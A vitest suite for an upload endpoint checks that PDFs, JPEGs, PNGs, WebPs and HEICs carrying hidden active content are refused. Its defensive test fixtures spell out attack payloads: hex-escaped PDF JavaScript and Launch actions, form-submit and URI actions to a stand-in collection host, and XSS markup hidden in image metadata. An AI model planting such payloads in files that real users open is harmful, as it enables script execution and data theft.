import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import sharp from 'sharp';
import type request from 'supertest';
import { makeTestApp, type TestApp } from '../factories/test-app';
import { editableClaimOf, snapshot } from '../fixtures/evidence-app';
import { scenePhoto, pngScene, simplePdf, undecodableHeic, webpScene } from '../fixtures/photos';
import {
  HTML_PAGE,
  heicWithMdat,
  iTXtCompressed,
  isoBox,
  jpegWithSegment,
  pdfObjectStreamScript,
  pdfWith,
  pngChunk,
  pngWithChunk,
  utf16be,
  utf16le,
  webpWithChunk,
  zTXt,
  zipLocalFile,
} from '../fixtures/active-content';

// Active content hidden in otherwise valid files (OWASP ASVS 5.0 5.2.x; OWASP File Upload Cheat
// Sheet, "polyglots"). PDF names may spell any byte as #xx (ISO 32000-1 7.3.5), so names are
// decoded before checking; actions per ISO 32000-1 12.6 (JavaScript, Launch, SubmitForm, URI,
// OpenAction, AA), embedded files 7.11.4, XFA 12.7.8. JPEG segments per ITU-T T.81 Annex B,
// PNG chunks per ISO/IEC 15948, WebP RIFF chunks per RFC 9649, HEIC boxes per ISO/IEC 14496-12.
// Every refusal is 415 with code active_content, a reason code, and nothing stored.

const ORIGIN = 'http://localhost:3000';
type Agent = Awaited<ReturnType<TestApp['signIn']>>;

let refusedCount = 0;

describe('active content is refused with 415 and a reason', () => {
  let t: TestApp;
  let tech: Agent;
  let url: string;

  beforeAll(async () => {
    t = await makeTestApp({ env: { UPLOAD_MAX_FILES_PER_CLAIM: '100' } });
    tech = await t.signIn('techA');
    url = `/api/claims/${editableClaimOf(t, 'tech@harborview.test').id}/attachments`;
  });
  afterAll(async () => {
    // The figure for the report: how many active-content fixtures were refused.
    console.log(`active-content fixtures refused: ${refusedCount}`);
    await t.close();
  });

  async function refused(data: Buffer, filename: string, reason: string | RegExp) {
    const before = snapshot(t);
    const res = await tech.post(url).set('Origin', ORIGIN).attach('files', data, filename);
    expect(res.status, JSON.stringify(res.body)).toBe(415);
    expect(res.body.error.code).toBe('active_content');
    expect(res.body.error.fields.reason).toMatch(typeof reason === 'string' ? new RegExp(`^${reason}$`) : reason);
    expect(res.body.error.message).toContain(filename);
    expect(snapshot(t)).toEqual(before);
    refusedCount++;
  }
  async function accepted(data: Buffer, filename: string) {
    const res = await tech.post(url).set('Origin', ORIGIN).attach('files', data, filename);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
  }

  describe('PDF', () => {
    it('/J#61vaScript: a JavaScript open action with its name hex-escaped', async () => {
      await refused(pdfWith({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }), 'report.pdf', /^pdf_(javascript|js|open_action)$/);
    });

    it('a name escaped with lowercase hex digits (/#4aavaScript)', async () => {
      await refused(pdfWith({ catalog: '/Names << /#4aavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>' }), 'names.pdf', /^pdf_(javascript|js)$/);
    });

    it('/L#61unch: a launch action', async () => {
      await refused(pdfWith({ catalog: '/OpenAction << /S /L#61unch /F (setup.exe) >>' }), 'launch.pdf', /^pdf_(launch|open_action)$/);
    });

    it('an open action that goes to a web address', async () => {
      await refused(pdfWith({ catalog: '/OpenAction << /S /URI /URI (https://collect.example.invalid/?d=1) >>' }), 'uri.pdf', 'pdf_open_action');
    });

    it('a form that submits itself (SubmitForm)', async () => {
      const widget = '<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 0 50 20] /A << /S /SubmitForm /F (https://collect.example.invalid/) >> >>';
      await refused(pdfWith({ catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]', extra: [widget] }), 'form.pdf', 'pdf_submitform');
    });

    it('a page additional action (/AA) that runs JavaScript', async () => {
      await refused(pdfWith({ page: '/AA << /O << /S /JavaScript /JS (1) >> >>' }), 'aa.pdf', 'pdf_additional_action');
    });

    it('a JavaScript action inside a Flate-compressed object stream', async () => {
      await refused(pdfObjectStreamScript(), 'objstm.pdf', /^pdf_(javascript|js|open_action)$/);
    });

    it('an embedded file (/Embedded#46iles name tree)', async () => {
      const file = '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream';
      await refused(pdfWith({ catalog: '/Names << /Embedded#46iles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>', extra: [file] }), 'embedded.pdf', /^pdf_(embeddedfiles?|ef)$/);
    });

    it('an XFA form', async () => {
      await refused(pdfWith({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: ['<< /Length 7 >>\nstream\n<xdp/>\n\nendstream'] }), 'xfa.pdf', 'pdf_xfa');
    });

    it('a RichMedia annotation', async () => {
      await refused(pdfWith({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'] }), 'media.pdf', /^pdf_richmedia/);
    });

    it('markup in a hex-encoded string', async () => {
      const hex = Buffer.from('<script>1</script>').toString('hex');
      await refused(pdfWith({ trailer: '/Info 6 0 R', extra: [`<< /Title <${hex}> >>`] }), 'title.pdf', 'pdf_markup');
    });
  });

  describe('JPEG', () => {
    it('markup in a comment segment: <img onerror>', async () => {
      await refused(await jpegWithSegment(0xfe, Buffer.from('<img src=x onerror=alert(1)>')), 'com.jpg', 'jpeg_markup_in_metadata');
    });

    it('UTF-16 LE <script> in a comment segment', async () => {
      await refused(await jpegWithSegment(0xfe, utf16le('<script>alert(1)</script>')), 'utf16le.jpg', 'jpeg_markup_in_metadata');
    });

    it('UTF-16 BE <script> in an APP segment', async () => {
      await refused(await jpegWithSegment(0xeb, utf16be('<script>alert(1)</script>')), 'utf16be.jpg', 'jpeg_markup_in_metadata');
    });

    it('an <iframe> in an APP13 segment', async () => {
      await refused(await jpegWithSegment(0xed, Buffer.from('Photoshop 3.0\0<iframe src="https://x.example.invalid">')), 'app13.jpg', 'jpeg_markup_in_metadata');
    });

    it('data after the end-of-image marker (no markup in it)', async () => {
      const jpeg = await scenePhoto(911, { width: 160, height: 120 });
      const tail = Buffer.from('FIELDPROOF-TRAILER-0123456789abcdef'.repeat(8));
      // It still decodes as an image: only the end-of-image check stops it.
      expect((await sharp(Buffer.concat([jpeg, tail])).metadata()).format).toBe('jpeg');
      await refused(Buffer.concat([jpeg, tail]), 'tail.jpg', 'jpeg_data_after_end');
    });
  });

  describe('PNG', () => {
    it('markup in a compressed zTXt chunk', async () => {
      await refused(await pngWithChunk('zTXt', zTXt('Comment', '<script>alert(1)</script>')), 'ztxt.png', 'png_markup_in_metadata');
    });

    it('markup in a compressed iTXt chunk', async () => {
      await refused(await pngWithChunk('iTXt', iTXtCompressed('Description', HTML_PAGE)), 'itxt.png', 'png_markup_in_metadata');
    });

    it('UTF-16 markup in a tEXt chunk', async () => {
      await refused(await pngWithChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), utf16le('<svg onload=alert(1)>')])), 'text16.png', 'png_markup_in_metadata');
    });

    it('data after IEND', async () => {
      await refused(Buffer.concat([await pngScene(912), Buffer.from('trailing bytes after the image end')]), 'tail.png', 'png_data_after_end');
    });
  });

  describe('WebP', () => {
    it('markup in an EXIF chunk', async () => {
      await refused(await webpWithChunk('EXIF', Buffer.from('Exif\0\0<script>alert(1)</script>')), 'exif.webp', 'webp_markup_in_metadata');
    });

    it('markup in an XMP chunk', async () => {
      await refused(await webpWithChunk('XMP ', Buffer.from('<x:xmpmeta><svg onload=alert(1)/></x:xmpmeta>')), 'xmp.webp', 'webp_markup_in_metadata');
    });

    it('data beyond the RIFF size', async () => {
      await refused(Buffer.concat([await webpScene(913), Buffer.from('trailing bytes after the RIFF')]), 'tail.webp', 'webp_data_after_end');
    });
  });

  describe('HEIC', () => {
    it('a media box that holds HTML and a ZIP', async () => {
      await refused(heicWithMdat(Buffer.concat([Buffer.from(HTML_PAGE), zipLocalFile('index.html', HTML_PAGE)])), 'mixed.heic', /^heic_(markup|archive)$/);
    });

    it('a media box that holds only a ZIP archive', async () => {
      await refused(heicWithMdat(Buffer.concat([Buffer.alloc(64, 7), zipLocalFile('a.txt', 'inert test data')])), 'zip.heic', 'heic_archive');
    });

    it('an unknown top-level box', async () => {
      await refused(Buffer.concat([undecodableHeic(), isoBox('html', Buffer.from('inert'))]), 'box.heic', 'heic_unknown_box');
    });

    it('boxes that do not fill the file exactly', async () => {
      await refused(Buffer.concat([undecodableHeic(), Buffer.from([1, 2, 3])]), 'short.heic', 'heic_broken');
    });
  });

  describe('previews and thumbnails are re-encoded, the original only downloads', () => {
    it('a photo with EXIF and a comment: the preview and thumbnail are new JPEGs without its metadata; the original is an attachment with nosniff and a sandbox', async () => {
      const original = await scenePhoto(931, { width: 2400, height: 1800, exif: { takenAt: '2026:03:05 10:00:00', offset: '-05:00', latitude: 41.5, longitude: -87.6 } });
      const res = await tech.post(url).set('Origin', ORIGIN).attach('files', original, 'big.jpg');
      expect(res.status).toBe(201);
      const a = res.body.attachments[0];
      const binary = (r: request.Request) => r.buffer(true).parse((resp, cb) => {
        const chunks: Buffer[] = [];
        resp.on('data', (c: Buffer) => chunks.push(c));
        resp.on('end', () => cb(null, Buffer.concat(chunks)));
      });
      for (const [path, longest] of [[a.previewUrl, 1600], [a.thumbnailUrl, 480]] as const) {
        const r = await binary(tech.get(path));
        expect(r.status).toBe(200);
        expect(r.headers['content-type']).toBe('image/jpeg');
        expect(r.headers['x-content-type-options']).toBe('nosniff');
        expect(r.headers['content-security-policy']).toMatch(/sandbox/);
        const body = r.body as Buffer;
        expect(body.equals(original)).toBe(false);
        const m = await sharp(body).metadata();
        expect(m.format).toBe('jpeg');
        expect(Math.max(m.width!, m.height!)).toBe(longest);
        expect(m.exif).toBeUndefined();
      }
      const dl = await binary(tech.get(a.url));
      expect(dl.headers['content-disposition']).toMatch(/^attachment/);
      expect(dl.headers['x-content-type-options']).toBe('nosniff');
      expect(dl.headers['content-security-policy']).toMatch(/sandbox/);
      expect((dl.body as Buffer).equals(original)).toBe(true);
    });
  });

  describe('valid files are still accepted', () => {
    it('a JPEG with EXIF, a JPEG followed by a second complete JPEG (multi-picture), and one with zero padding', async () => {
      await accepted(await scenePhoto(921, { exif: { takenAt: '2026:03:05 10:00:00', offset: '-05:00', latitude: 41.5, longitude: -87.6 } }), 'plate.jpg');
      const a = await scenePhoto(922, { width: 320, height: 240 });
      const b = await scenePhoto(923, { width: 80, height: 60 });
      await accepted(Buffer.concat([a, b]), 'multi.jpg');
      await accepted(Buffer.concat([await scenePhoto(924, { width: 200, height: 150 }), Buffer.alloc(512)]), 'padded.jpg');
    });

    it('a PNG with a plain text chunk, a WebP, a HEIC', async () => {
      const png = await pngScene(925);
      const iend = png.length - 12;
      await accepted(Buffer.concat([png.subarray(0, iend), pngChunk('tEXt', Buffer.from('Comment\0Fryer 3, left basket')), png.subarray(iend)]), 'text.png');
      await accepted(await webpScene(926), 'scene.webp');
      await accepted(undecodableHeic(), 'phone.heic');
    });

    it('PDFs: a plain one, one that opens at its first page, one in a Flate-compressed page', async () => {
      await accepted(simplePdf(), 'invoice.pdf');
      await accepted(pdfWith({ catalog: '/OpenAction [3 0 R /Fit]' }), 'fit.pdf');
      const { deflateSync } = await import('node:zlib');
      const z = deflateSync(Buffer.from('BT /F1 12 Tf 20 70 Td (Compressed page) Tj ET'));
      await accepted(pdfWith({ page: '/Thumb 6 0 R', extra: [`<< /Filter /FlateDecode /Length ${z.length} >>\nstream\n${z.toString('latin1')}\nendstream`] }), 'flate.pdf');
    });
  });
});
